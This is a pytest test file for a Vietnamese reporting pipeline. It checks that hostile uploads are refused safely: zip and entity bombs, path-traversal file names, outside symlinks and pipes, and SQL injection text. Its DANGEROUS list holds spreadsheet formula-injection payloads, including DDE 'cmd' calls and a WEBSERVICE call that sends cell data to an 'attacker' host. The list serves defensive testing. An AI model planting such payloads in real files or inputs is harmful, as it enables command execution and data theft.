"""Hostile and broken input (issue #7): every file of tests/hostile_corpus.py is refused or read safely with a
clear reason, in one ``ccn run`` that also loads a clean sample exactly as its truth says; inspection costs
bounded memory; limits come from the environment; text we write never becomes a formula."""

from __future__ import annotations

import math
import os
import re
import tracemalloc
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from sqlalchemy import text

from tests.helpers import ccn, engine, view
from tests.hostile_corpus import FLAGGED, READ, REFUSED, REJECTED, build

ACTIVE = {"accepted", "accepted_with_warnings"}


@pytest.fixture(scope="session")
def base_dir(tmp_path_factory) -> Path:
    """A small 2025-Y sample of one province: the valid workbooks the hostile variants are made from."""
    from pipelines.sample.generator import Profile, generate
    from schemas.periods import Period

    out = tmp_path_factory.mktemp("hostile_base")
    generate(out, Period.parse("2025-Y"), provinces=1, seed=11, profile=Profile(communes=(3, 3), clusters=(6, 6)))
    return out


@pytest.fixture(scope="session")
def corpus_dir(tmp_path_factory, base_dir) -> tuple[Path, list]:
    out = tmp_path_factory.mktemp("hostile_corpus")
    return out, build(out, base_dir)


def _truth_values(base_dir: Path, base: str) -> dict[str, float]:
    import json

    truth = json.loads((base_dir / "truth.json").read_text(encoding="utf-8"))
    return next(f for f in truth["files"] if f["file"] == base)["reports"][0]["values"]


@pytest.mark.slow
def test_hostile_corpus_refused_or_read_safely_while_the_sample_loads(inbox, truth, base_dir, home):
    cases = build(inbox, base_dir)
    assert len(cases) >= 30
    # a name starting with a dot is an upload in progress (rsync, WinSCP): never taken, whatever follows
    (inbox / "hostile" / "..\\..\\an.xlsx").write_bytes((inbox / cases[-1].path).read_bytes() + b"\0")
    assert ccn("run") == 0

    subs = view("mart_submissions")
    issues = view("mart_validation_issues")
    values = view("mart_indicator_values")
    counts = {REFUSED: 0, REJECTED: 0, READ: 0, FLAGGED: 0}
    wrong = []  # every case checked, all differences reported at once
    for case in cases:
        name = Path(case.path).name
        mine = subs[subs.file_name == name]
        if len(mine) != 1:
            wrong.append((case.what, f"{len(mine)} submissions"))
            continue
        sub = mine.iloc[0]
        found = issues[issues.submission_id == sub.submission_id]
        rules = set(found.rule_id)
        messages = list(found.message)
        counts[case.outcome] += 1
        if case.outcome == REFUSED:
            if sub.status != "rejected" or not pd.isna(sub.form) or rules != {case.rule}:
                wrong.append((case.what, sub.status, sub.form, rules))
            elif case.reason.lower() not in messages[0].lower() or "—" not in messages[0]:
                wrong.append((case.what, messages[0]))
        elif case.outcome in (REJECTED, FLAGGED):
            hit = found[found.rule_id == case.rule]
            status = "rejected" if case.outcome == REJECTED else "accepted_with_warnings"
            if sub.status != status or hit.empty:
                wrong.append((case.what, sub.status, rules))
            elif case.cell and case.cell not in set(hit.cell):
                wrong.append((case.what, "cell", case.cell, list(hit.cell)))
            elif case.reason and not any(case.reason in m for m in hit.message):
                wrong.append((case.what, list(hit.message)))
        else:
            if sub.status not in ACTIVE:
                wrong.append((case.what, sub.status, messages))
                continue
            if case.rule and (case.rule not in rules or set(found[found.rule_id == case.rule].severity) != {"warning"}):
                wrong.append((case.what, "warning missing", rules))
            got = {r.indicator_code: r.value for r in values[values.submission_id == sub.submission_id].itertuples()}
            expected = _truth_values(base_dir, case.base)
            if got.keys() != expected.keys() or any(
                    not math.isclose(got[c], v, rel_tol=1e-9, abs_tol=1e-9) for c, v in expected.items()):
                wrong.append((case.what, "values", got, expected))
    assert not wrong, wrong
    assert counts[REFUSED] >= 25 and counts[READ] >= 10, counts

    # the clean sample of the same run loaded exactly as its truth says
    by_name = {f["file"].rsplit("/", 1)[-1]: f for f in truth["files"]}
    sample = subs[subs.file_name.isin(by_name)]
    assert len(sample) == truth["counts"]["submissions"]
    for row in sample.itertuples():
        assert row.status == by_name[row.file_name]["expected_status"], row.file_name

    # SQL in cells is data: the tables are intact and the text is stored as typed
    eng = engine()
    try:
        with eng.connect() as conn:
            names = [r[0] for r in conn.execute(text("SELECT name FROM project WHERE name LIKE '%DROP TABLE%'"))]
            archived = [r[0] for r in conn.execute(text("SELECT archive_path FROM received_file"))]
    finally:
        eng.dispose()
    assert names and names[0].startswith("Robert'); DROP TABLE submission;--"), names
    assert "..\\..\\an.xlsx" not in set(view("mart_submissions").file_name)
    archive = (home / "archive").resolve()
    assert all(Path(p).resolve().is_relative_to(archive) for p in archived)
    assert not Path("/tmp/ccn_zip_slip.txt").exists()


REFUSED_BY_INSPECTION = 8 << 20  # bytes of Python memory the inspection of any corpus file may peak at


def test_inspection_memory_is_bounded(corpus_dir, monkeypatch):
    """Zip bombs, a million rows, 16,384 columns and entity bombs are refused by streaming, in bounded memory."""
    from pipelines.intake import safety

    monkeypatch.setenv("CCN_MAX_CELLS", "50000")  # the 600,000-cell sheet stops sooner; tracemalloc is slow

    root, cases = corpus_dir
    peaks = {}
    for case in cases:
        path = root / case.path
        if case.outcome != REFUSED or case.rule != "file.unreadable":
            continue
        tracemalloc.start()
        try:
            with pytest.raises(safety.Refused) as refused:
                safety.inspect(path)
            peaks[case.path] = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
        assert case.reason.lower() in str(refused.value).lower(), (case.what, str(refused.value))
    big = {p: v for p, v in peaks.items() if v > REFUSED_BY_INSPECTION}
    assert not big, big
    assert {"hostile/bom_that_1gb.xlsx", "hostile/trieu_dong.xlsx", "hostile/goc_xa.xlsx"} <= set(peaks)


def test_declared_and_real_sizes_both_checked(corpus_dir):
    """The lying bomb declares 2 KB; the inspection stops one chunk past the declaration, not at 1 GiB."""
    from pipelines.intake import safety

    root, _ = corpus_dir
    with zipfile.ZipFile(root / "hostile/bom_that_1gb.xlsx") as z:
        info = z.getinfo("xl/sharedStrings.xml")
    assert info.file_size == 2048 and info.compress_size > 1_000_000
    fed = []
    original = safety._DtdScan.feed
    try:
        safety._DtdScan.feed = lambda self, data: (fed.append(len(data)), original(self, data))[1]
        with pytest.raises(safety.Refused, match="beyond its declared"):
            safety.inspect(root / "hostile/bom_that_1gb.xlsx")
    finally:
        safety._DtdScan.feed = original
    assert sum(fed) <= 2048  # never more than the declared size reached the XML scan


def test_limits_are_settings(monkeypatch, base_dir):
    from pipelines.intake import safety
    from pipelines.read.workbook import read_workbook
    from pipelines.settings import Limits

    valid = next(base_dir.rglob("bieu04_*.xlsx"))
    assert read_workbook(valid).reports  # within the defaults
    defaults = Limits()
    assert (defaults.max_file_bytes, defaults.max_uncompressed_bytes, defaults.max_rows, defaults.max_columns,
            defaults.max_cells) == (20 << 20, 100 << 20, 10_000, 256, 500_000)
    for var, reason in [("CCN_MAX_ROWS", "rows"), ("CCN_MAX_COLUMNS", "columns"), ("CCN_MAX_CELLS", "cells")]:
        monkeypatch.setenv(var, "3")
        with pytest.raises(safety.Refused, match=var):
            safety.inspect(valid)
        reading = read_workbook(valid)
        assert not reading.reports and reason in reading.findings[0].message
        monkeypatch.delenv(var)
    monkeypatch.setenv("CCN_MAX_FILE_MB", "0")
    with pytest.raises(ValueError, match="CCN_MAX_FILE_MB"):
        Limits()
    monkeypatch.setenv("CCN_MAX_FILE_MB", "lots")
    with pytest.raises(ValueError, match="CCN_MAX_FILE_MB"):
        Limits()
    monkeypatch.delenv("CCN_MAX_FILE_MB")
    monkeypatch.setenv("CCN_MAX_UNCOMPRESSED_MB", "1")
    size = sum(i.file_size for i in zipfile.ZipFile(valid).infolist())
    assert size < 1 << 20 and safety.inspect(valid).kind == "xlsx"


VI_LETTERS = set("ăâđêôơưàáảãạằắẳẵặầấẩẫậèéẻẽẹềếểễệìíỉĩịòóỏõọồốổỗộờớởỡợùúủũụừứửữựỳýỷỹỵ")
ENGLISH_WORDS = re.compile(r"\b(the|is|are|of|and|not|with|which|over|limit|file|workbook|sheet|part|damaged|"
                           r"truncated|password|encrypted|bytes|rows|columns|cells|never|writes|send|again|remove|"
                           r"open|save|holds?|expands?|declares?|reader|failed|cannot)\b", re.IGNORECASE)
QUOTED = re.compile(r"'[^']*'|\"[^\"]*\"")  # a file, sheet or format name, quoted as it is called
EXCEPTION_TEXT = re.compile(r"\w+(Error|Exception)\b|BadZipFile|Traceback|not a zip file|central directory|"
                            r"Errno|line \d+, column \d+")  # what Python, zipfile, expat or calamine say (issue 13)
PART_NAMES = re.compile(r"\S*/\S*")  # xl/worksheets/sheet1.xml, META-INF/manifest.xml


def assert_each_half_in_its_language(f, en_reason: str = "") -> None:
    """A ``file.unreadable`` finding: the Vietnamese message has no English in it (no English reason, no English
    word outside quoted names and part names), the English message no letter outside ASCII outside quoted names,
    and the two join with exactly one " — "."""
    assert f.rule_id == "file.unreadable", f
    vi, en = f.message_vi, f.message_en
    prefix = "The file cannot be read: "
    assert en.startswith(prefix), en
    reason_en = en[len(prefix):]
    assert reason_en and reason_en not in vi, f"the English reason in the Vietnamese message: {vi!r}"
    bare_vi = PART_NAMES.sub(" ", QUOTED.sub(" ", vi))
    assert any(ch in VI_LETTERS for ch in bare_vi.lower()), f"no Vietnamese reason: {vi!r}"
    assert not ENGLISH_WORDS.search(bare_vi), f"English in the Vietnamese message: {vi!r}"
    bare_en = QUOTED.sub(" ", en)
    assert not any(ch.isalpha() and not ch.isascii() for ch in bare_en), f"not English only: {en!r}"
    assert f.message.count(" — ") == 1, f.message
    assert en_reason.lower() in reason_en.lower(), (en_reason, en)
    assert not EXCEPTION_TEXT.search(f.message), f"a library's error text in the message: {f.message!r}"


def test_every_refusal_is_wholly_vietnamese_then_wholly_english(corpus_dir, tmp_path, monkeypatch):
    """Issue 11, part 6: the reason a file cannot be read is a Vietnamese sentence in ``message_vi`` and an English
    one in ``message_en``, for every refusal of the corpus (as the reader and as `ccn run` record them), calamine's
    own errors, a missing file in `ccn check` and a reader failure in `ccn run`."""
    import python_calamine

    from pipelines.load import ingest
    from pipelines.read.sheets import unreadable_reason
    from pipelines.read.workbook import read_workbook
    from pipelines.steward.check import check_file
    from validations.catalogue import finding

    root, cases = corpus_dir
    refused = [c for c in cases if c.outcome == REFUSED and c.rule == "file.unreadable"]
    assert len(refused) >= 25
    for case in refused:
        reading = read_workbook(root / case.path)
        assert not reading.reports and len(reading.findings) == 1, (case.what, reading.findings)
        assert_each_half_in_its_language(reading.findings[0], case.reason)
    for name, content in [("bao_cao.ods", b"PK\x03\x04"), ("empty.xlsx", b""), ("broken.xls", b"\xd0\xcf\x11\xe0 x"),
                          ("chia.xlsx", b"PK\x05\x06" + bytes(18)), ("la.xlsx", b"\x00\x01\x02\x03 binary")]:
        (tmp_path / name).write_bytes(content)
        assert_each_half_in_its_language(read_workbook(tmp_path / name).findings[0])
    for exc, kept in ((python_calamine.PasswordError("Workbook is password protected"), "password-protected"),
                      (python_calamine.ZipError("invalid Zip archive: no central directory"), "damaged"),
                      (python_calamine.XmlError("Xml error: mismatched tag at 42"), "could not read the file")):
        vi, en = unreadable_reason(exc)  # calamine's own text in neither: it is no reason an office can act on
        assert str(exc) not in vi and str(exc) not in en and type(exc).__name__ not in vi + en
        assert_each_half_in_its_language(finding("file.unreadable", reason_vi=vi, reason_en=en), kept)
    assert_each_half_in_its_language(check_file(tmp_path / "missing.xlsx").findings[0], "no such file")

    def broken(*args):
        raise RuntimeError("index out of range in the reader")

    monkeypatch.setattr(ingest, "_parse", broken)
    failed = ingest.parse_file("0" * 64, str(tmp_path / "a.xlsx"), "a.xlsx", "tinh/a.xlsx")
    assert_each_half_in_its_language(failed.submissions[0].findings[0], "the reader failed")
    assert "RuntimeError" not in failed.submissions[0].findings[0].message
    assert "index out of range" not in failed.submissions[0].findings[0].message


DANGEROUS = ["=cmd|'/c calc'!A1", "=HYPERLINK(\"http://x\",\"y\")", "+1+cmd|' /C notepad'!A0",
             "@SUM(1+1)*cmd|'/c calc'!A1", "=1+1", "-2+3+cmd|'/c calc'!A1", "=WEBSERVICE(\"http://attacker/\"&A1)"]


def test_text_from_input_never_becomes_a_formula(tmp_path):
    """templates.write_form writes every string as text, whatever it starts with."""
    from openpyxl import Workbook, load_workbook

    from pipelines.steward.templates import FormContent, Identification, write_form
    from schemas.forms import load_forms
    from schemas.periods import Period

    spec = load_forms()["04"]
    ident = Identification(province=DANGEROUS[0], sender=DANGEROUS[1], period=Period.parse("2025-Y"))
    values = {row.code: DANGEROUS[i % len(DANGEROUS)] for i, row in enumerate(spec.rows)}
    wb = Workbook()
    cells = write_form(wb.active, FormContent("04", ident, values))
    path = tmp_path / "out.xlsx"
    wb.save(path)

    back = load_workbook(path).active
    written = {c.value for row in back.iter_rows() for c in row if isinstance(c.value, str)}
    assert set(DANGEROUS) <= written | {v for v in written if any(d in v for d in DANGEROUS)}
    assert all(c.data_type != "f" for row in back.iter_rows() for c in row)
    for code, ref in cells.items():
        assert back[ref].value == values[code] and back[ref].data_type == "s"
    with zipfile.ZipFile(path) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml


def test_inbox_links_outside_are_never_archived(tmp_path):
    """A symbolic link in the inbox to a file elsewhere on the server is not taken; one inside the inbox is."""
    from pipelines.intake.archive import scan_inbox

    inbox = tmp_path / "inbox"
    (inbox / "tinh").mkdir(parents=True)
    secret = tmp_path / "secret.xlsx"
    secret.write_bytes(b"server file")
    (inbox / "tinh" / "bao_cao.xlsx").write_bytes(b"report")
    (inbox / "tinh" / "lien_ket_ngoai.xlsx").symlink_to(secret)
    (inbox / "tinh" / "lien_ket_trong.xlsx").symlink_to(inbox / "tinh" / "bao_cao.xlsx")
    os.mkfifo(inbox / "tinh" / "ong.xlsx")  # a pipe would block a reader forever
    assert sorted(f.relative for f in scan_inbox(inbox)) == ["tinh/bao_cao.xlsx", "tinh/lien_ket_trong.xlsx"]


def _formula_cells(path: Path) -> list[str]:
    from openpyxl import load_workbook

    return [f"{ws.title}!{c.coordinate}" for ws in load_workbook(path).worksheets for row in ws.iter_rows()
            for c in row if c.data_type == "f"]


def test_feedback_writer_keeps_input_text_as_text(tmp_path):
    from openpyxl import Workbook

    from pipelines.steward.feedback import set_text

    wb = Workbook()
    for i, payload in enumerate(DANGEROUS, start=1):
        set_text(wb.active.cell(i, 1), payload)
    wb.save(tmp_path / "feedback.xlsx")
    assert _formula_cells(tmp_path / "feedback.xlsx") == []


def test_national_export_tables_keep_input_text_as_text(tmp_path):
    from openpyxl import Workbook

    from pipelines.report.export import Column, _table

    wb = Workbook()
    _table(wb.active, ("Chưa báo cáo", "Missing"), [Column("Đơn vị / Unit", 10), Column("Tên đơn vị / Name", 30)],
           ([str(i), payload] for i, payload in enumerate(DANGEROUS)))
    wb.save(tmp_path / "export.xlsx")
    assert _formula_cells(tmp_path / "export.xlsx") == []
